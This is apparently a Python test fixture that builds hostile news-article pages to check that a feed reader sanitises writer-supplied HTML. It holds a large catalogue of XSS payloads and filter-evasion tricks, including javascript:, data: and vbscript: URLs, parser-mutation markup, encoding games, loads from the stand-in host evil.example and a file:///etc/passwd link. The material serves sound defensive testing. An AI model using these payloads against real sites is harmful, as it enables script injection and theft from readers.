"""Hostile pages: what someone who may write on a covenant site could try on the readers of these feeds.

Each vector is one article. It calls ``xss()`` or one of the dialogs when its script runs, or asks
evil.example for something when it only gets as far as a request.
"""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape

from covenant_site import WORDS

RUN = "xss()"
EVIL = "http://evil.example"
TEXT = "".join(f"<p>{words}</p>" for words in WORDS)
_CODES = "".join(f"&#{ord(letter)};" for letter in "javascript:xss()")
_HEX = "".join(f"&#x{ord(letter):05x}" for letter in "javascript:xss()")


@dataclass(frozen=True)
class Vector:
    """``name`` is the last part of its address, and is put in its title: no two articles may read the same."""

    name: str
    markup: str

    @property
    def page(self) -> str:
        number = str(zlib.crc32(self.name.encode()))  # another figure makes it another article, not a copy
        return self.markup.replace("@name@", self.name).replace("@number@", number)


def vectors() -> Iterator[Vector]:
    for context, found in (
        ("body", _in_body()),
        ("address", (f'<p>Lees <a href="{href}">het hele verslag</a> van de deelnemers.</p>' for href in _addresses())),
        ("picture", (f'<p>{WORDS[0]}</p><p><img {source} alt="Een foto"></p>' for source in _pictures())),
    ):
        for number, markup in enumerate(found):
            yield Vector(f"{context}-{number:02}", _page(body=f"{TEXT}{markup}<p>En dit is het slot.</p>"))
    for number, text in enumerate(_in_text()):
        yield from _in_fields(number, text)
    for number, head in enumerate(_heads()):
        yield Vector(f"head-{number:02}", _page(head=head))
    for number, data in enumerate(_linked_data()):
        yield Vector(f"data-{number:02}", _page(head=f'<script type="application/ld+json">{data}</script>'))


def _page(title: str = "Nieuws", body: str = TEXT, head: str = "", before: str = "") -> str:
    return (
        f'<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>{title} over @name@, verslag @number@ | Convenant</title>{head}</head>'
        f'<body><main><article><h1>{title} over @name@, verslag @number@</h1><time datetime="2024-06-18T14:30:00+02:00">18 juni 2024</time>'
        f"{before}{body}<p>Dit was verslag @number@.</p></article></main></body></html>"
    )


def _in_body() -> Iterator[str]:
    """Markup in the text of an article."""
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT\n>{RUN}</SCRIPT\t>"
    yield f"<script/x>{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script src={EVIL}/x.js></script>"
    yield f'<script src="data:text/javascript,{RUN}"></script>'
    yield f'<script type="module">{RUN}</script>'
    yield f'<script type="text/template"><img src=x onerror="{RUN}"></script>'
    yield f"<script>{RUN}"
    yield f'<p onclick="{RUN}" onmouseover="{RUN}" onpointerrawupdate="{RUN}">Klik hier voor het hele verhaal.</p>'
    yield f'<img src="x" onerror="{RUN}">'
    yield f"<img src=x onerror={RUN}//"
    yield f'<img/src="x"/onerror={RUN}>'
    yield f"<img src='x' OnErRoR\n=\n{RUN}>"
    yield f'<img """><script>{RUN}</script>">'
    yield f'<img src=x:x \x00onerror="{RUN}">'
    yield f"<img src=`x` onerror=`{RUN}`>"
    yield f'<img alt="`><img src=x onerror={RUN}>" src="/foto.png">'
    yield f"<img src='/foto.png' alt='x\"><script>{RUN}</script>'>"
    yield f'<body onload="{RUN}" onpageshow="{RUN}">'
    yield f'<svg onload="{RUN}"></svg>'
    yield f"<svg/onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}'/></svg>"
    yield f'<svg><a xlink:href="javascript:{RUN}"><text y="20">klik</text></a></svg>'
    yield f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>'
    yield f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text>klik</text></a></svg>'
    yield f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></iframe></foreignObject></svg>'
    yield f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={RUN} /></svg>#x">'
    yield f"<svg><style><img src=x onerror={RUN}></style></svg>"
    yield f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">'
    yield f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>"
    yield f'<math href="javascript:{RUN}">klik op de formule</math>'
    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    yield f'<math><mtext><table><mglyph><style><math><img src onerror="{RUN}">'
    yield f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>'
    yield f"<math><mi><![CDATA[</mi><img src=x onerror={RUN}>]]></math>"
    yield f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">'
    yield f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'
    yield f'<noembed><p title="</noembed><img src=x onerror={RUN}>"></noembed>'
    yield f'<noframes><p title="</noframes><img src=x onerror={RUN}>"></noframes>'
    yield f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>'
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f'<plaintext><img src=x onerror="{RUN}">'
    yield f'<style><p title="</style><img src=x onerror={RUN}>"></style>'
    yield f'<title><p title="</title><img src=x onerror={RUN}>"></title>'
    yield f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>'
    yield f'<select><template><img src=x onerror="{RUN}"></template><option><img src=x onerror="{RUN}"></select>'
    yield f"<select><noscript></select><script>{RUN}</script></noscript>"
    yield f'<template><script>{RUN}</script><img src=x onerror="{RUN}"></template>'
    yield f'<template shadowrootmode="open"><img src=x onerror="{RUN}"></template>'
    yield f'<iframe src="javascript:parent.{RUN}"></iframe>'
    yield f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>'
    yield f'<iframe src="{EVIL}/frame"></iframe><frameset><frame src="javascript:{RUN}"></frameset>'
    yield f'<object data="data:text/html,<script>{RUN}</script>"></object>'
    yield f'<embed src="javascript:{RUN}"><embed src="{EVIL}/x.swf"><applet code="X"></applet>'
    yield f'<video src="x" onerror="{RUN}" poster="{EVIL}/p.png"><source onerror="{RUN}"></video>'
    yield f'<audio src="{EVIL}/a.mp3" onloadstart="{RUN}"></audio>'
    yield f'<details open ontoggle="{RUN}"><summary>Meer</summary>Nog een stuk van de tekst.</details>'
    yield f'<input autofocus onfocus="{RUN}"><select autofocus onfocus={RUN}></select><textarea autofocus onfocus={RUN}>'
    yield f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}" id="x">Verstuur</button></form>'
    yield f'<isindex type=image src=1 onerror={RUN}><marquee onstart="{RUN}">Nieuws</marquee>'
    yield f'<div style="background:url({EVIL}/bg.png)">Tekst met een achtergrond.</div>'
    yield f'<p style="width:expression({RUN});behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#a)">Tekst met stijl.</p>'
    yield f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/b.png)}}</style>"
    yield f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel="prefetch" href="{EVIL}/x"><link rel="preload" as="script" href="{EVIL}/y">'
    yield f'<base href="{EVIL}/"><p>Zie <a href="verslag">het verslag</a>.</p>'
    yield f'<base href="javascript:/a/+{RUN}//"><p>Zie <a href="#a">het slot</a>.</p>'
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'
    yield f'<meta http-equiv="refresh" content="0;url={EVIL}/weg"><meta http-equiv="Set-Cookie" content="a=b">'
    yield f"<!--<img src='--><img src=x onerror={RUN}>-->"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!--!><img src=x onerror={RUN}>--!><img src=x onerror={RUN}>"
    yield f"<!-- --!><script>{RUN}</script> -->"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<![endif]--><!--[if gte IE 4]><script>{RUN}</script><![endif]-->"
    yield f'<?xml version="1.0"?><?import namespace="t" implementation="{EVIL}/x"><?php <script>{RUN}</script> ?>'
    yield f'<!ENTITY x "<script>{RUN}</script>">&x;'
    yield f'<p><a href="/a" title="</a><img src=x onerror={RUN}>">Een <b>kapotte <i>nesting</b> in</i> de <p>tekst</a>.'
    yield f"<table><tr><td><table><script>{RUN}</script></td><img src=x onerror={RUN}></table>"
    yield f'<table background="{EVIL}/t.png"><tr><td background="javascript:{RUN}">Een cel</td><td>en nog een</td></tr></table>'
    yield f'<a href="/a"><a href="javascript:{RUN}">dubbel</a></a>'
    yield f'<abbr title="&quot;><script>{RUN}</script>">SER</abbr>'
    yield f'<span lang="nl&quot; onclick=&quot;{RUN}">Nederlandse woorden staan hier.</span>'
    yield f'<ol start="1&quot; onfocus=&quot;{RUN}&quot; autofocus tabindex=&quot;1"><li>een punt</li></ol>'
    yield f'<td colspan="2&quot;><img src=x onerror={RUN}>">losse cel</td>'
    yield f'<x onclick="{RUN}" tabindex=1 autofocus onfocus="{RUN}">Een onbekend element met tekst.</x>'
    yield f'<tweeklank-feed src="{EVIL}/feed.json"></tweeklank-feed>'
    yield f'<p is="x-y" contenteditable onbeforeinput="{RUN}" slot="x" part="title">Een gewone zin staat hier.</p>'
    yield '<p id="main" name="createElement"><a id="document" name="location" href="/x">Een anker</a> met namen.</p>'
    yield f'<form class="filter"><input name="q"><input name="topic" value="{RUN}"></form>'
    yield f'<p data-entry data-topics="[&quot;{RUN}&quot;]" data-copy="x">Een zin met gegevens erbij.</p>'
    yield f"\u00ad<scr\u00adipt>{RUN}</scr\u00adipt><img src=x on\u200berror={RUN}>"
    yield f"<ſcript>{RUN}</ſcript><ıframe src='javascript:{RUN}'></ıframe><K onclick={RUN}>Kelvin</K>"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e ‹script›{RUN}‹/script›"
    yield f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x0berror={RUN}><img src=x\x0conerror={RUN}>"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt; &#60;svg onload={RUN}&#62;"
    yield f"<p>De code &lt;img src=x onerror={RUN}&gt; staat in deze zin. Wat betekent &lt;/p&gt;&lt;script&gt;{RUN}&lt;/script&gt; dan?</p>"
    yield "<div>" * 120 + f"<script>{RUN}</script><img src=x onerror={RUN}>" + "</div>" * 120


def _addresses() -> Iterator[str]:
    """Addresses of links."""
    yield f"javascript:{RUN}"
    yield f"JaVaScRiPt:{RUN}"
    yield f" \x01\x1f javascript:{RUN}"
    yield f"java\tscript:{RUN}"
    yield f"java&NewLine;script&colon;{RUN}"
    yield f"java\r\nscript:{RUN}"
    yield _CODES
    yield _HEX
    yield f"&#0000106&#0000097vascript:{RUN}"
    yield f"javascript&#58;{RUN}"
    yield f"javascript\u2028:{RUN}"
    yield f"\u00a0javascript:{RUN}"
    yield f"\ufeffjavascript:{RUN}"
    yield f"java\u00adscript:{RUN}"
    yield f"java&#0;script:{RUN}"
    yield f"javascript://evil.example/%0a{RUN}"
    yield f"javascript:/*--></title></style></textarea></script><svg onload={RUN}>//"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg=="
    yield f"vbscript:{RUN}"
    yield f"VBScript&Tab;:{RUN}"
    yield f"livescript:{RUN}"
    yield f"view-source:javascript:{RUN}"
    yield f"feed:javascript:{RUN}"
    yield f"jar:javascript:{RUN}!"
    yield "file:///etc/passwd"
    yield "blob:http://127.0.0.1/x"
    yield "//javascript:%0axss()/x"
    yield f"http://javascript:{RUN}@evil.example/"
    yield f"https://evil.example/&quot; onclick=&quot;{RUN}"
    yield f"https://evil.example/'><script>{RUN}</script>"
    yield f"https://evil.example\\@127.0.0.1/`{RUN}`"
    yield f"mailto:a@b.example?body=&quot;><script>{RUN}</script>"
    yield f"MAILTO:%0ajavascript:{RUN}"
    yield f"https://[::1]:bad/{RUN}"
    yield f"?x=&quot;><script>{RUN}</script>#&quot; onfocus={RUN} autofocus=&quot;"


def _pictures() -> Iterator[str]:
    """Addresses of pictures."""
    yield f'src="javascript:{RUN}"'
    yield f'src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>"'
    yield f'srcset="javascript:{RUN} 2x, data:text/html,<script>{RUN}</script> 3x" src="/foto.png"'
    yield f'data-src="javascript:{RUN}" src="/foto.png"'
    yield f'data-lazy-src="vbscript:{RUN}" data-original=" java&Tab;script:{RUN}"'
    yield f'src="/foto.png&quot; onerror=&quot;{RUN}"'
    yield f'src="/foto.png" lowsrc="{EVIL}/l.png" dynsrc="javascript:{RUN}" longdesc="javascript:{RUN}" usemap="#x"'
    yield f'src="/foto.svg" onload="{RUN}"'
    yield f'src="/foto.png?a=\'><script>{RUN}</script>"'
    yield f'src="/weg.png" crossorigin ping="{EVIL}/ping"'


def _in_text() -> Iterator[str]:
    """What is text to a page and might become markup on the way. For each there is a page with it in every field."""
    yield f"<script>{RUN}</script>"
    yield f'"><img src=x onerror={RUN}>'
    yield f"'><svg onload={RUN}>"
    yield f"</title></script></textarea></style><script>{RUN}</script>"
    yield f"]]><script>{RUN}</script><![CDATA["
    yield f"--><script>{RUN}</script><!--"
    yield f"&lt;img src=x onerror={RUN}&gt;"
    yield f"{{{{ {RUN} }}}} {{% set x = 1 %}} ${{{RUN}}}"
    yield '\u2028\u2029xss()//\\"};xss();//'
    yield f"javascript:{RUN}"


def _in_fields(number: int, text: str) -> Iterator[Vector]:
    """One text as the title, lead, author, topic, date, alternative text, caption and credit of articles."""
    shown = escape(text)
    figure = f'<figure><img src="/foto.png" alt="{shown}"><figcaption>{shown} Foto: {shown}</figcaption></figure>'
    lead = f'<p class="intro">{shown} En dan volgt een inleiding die lang genoeg is om er een te zijn.</p>'
    meta = f'<meta name="author" content="{shown}"><meta property="article:tag" content="{shown}">'
    dated = f'<meta property="article:published_time" content="{shown}">'
    yield Vector(f"title-{number:02}", _page(title=f"Nieuws {shown}"))
    yield Vector(f"parts-{number:02}", _page(before=lead, body=figure + TEXT, head=meta + dated))


def _heads() -> Iterator[str]:
    """What a page says of itself in its head."""
    yield f'<link rel="canonical" href="javascript:{RUN}">'
    yield f'<link rel="canonical" href="/nieuws/x&quot;><script>{RUN}</script>">'
    yield f'<link rel="canonical" href="/nieuws/\'onmouseover=\'{RUN}\'/]]><script>{RUN}</script>">'
    yield f'<link rel="alternate" hreflang="en" href="javascript:{RUN}">'
    yield f'<meta property="og:image" content="javascript:{RUN}">'
    yield f'<meta property="og:image" content="/foto.png&quot; onerror=&quot;{RUN}">'
    yield '<meta property="og:image" content="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+">'
    yield f'<meta property="og:title" content="&lt;script&gt;{RUN}&lt;/script&gt;">'
    yield f'<meta name="description" content="&quot;><script>{RUN}</script> Een samenvatting die nergens anders staat dan hier.">'
    yield f'<base href="javascript:{RUN}//">'
    yield f'<base href="{EVIL}/&quot;><script>{RUN}</script>/">'
    yield f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}"><meta http-equiv="Content-Security-Policy" content="x">'
    yield f"<script>{RUN}</script><style>*{{background:url({EVIL}/x)}}</style>"


def _linked_data() -> Iterator[str]:
    """JSON-LD, which pages write without escaping much."""
    evil = f'"><script>{RUN}</script><img src=x onerror={RUN}>'.replace("</", "<\\/")
    for field in ("description", "author", "articleSection", "keywords", "datePublished", "image", "headline"):
        value = {"name": evil} if field == "author" else [evil] if field in ("articleSection", "keywords") else evil
        yield json.dumps({"@type": "NewsArticle", field: value}).replace("\\\\/", "\\/")
    yield json.dumps(
        {"@type": "NewsArticle", "image": {"url": f"javascript:{RUN}"}, "author": {"url": f"javascript:{RUN}"}}
    )
    yield json.dumps({"@type": "NewsArticle", "image": f"/foto.png?'\"><svg onload={RUN}>", "url": f"javascript:{RUN}"})
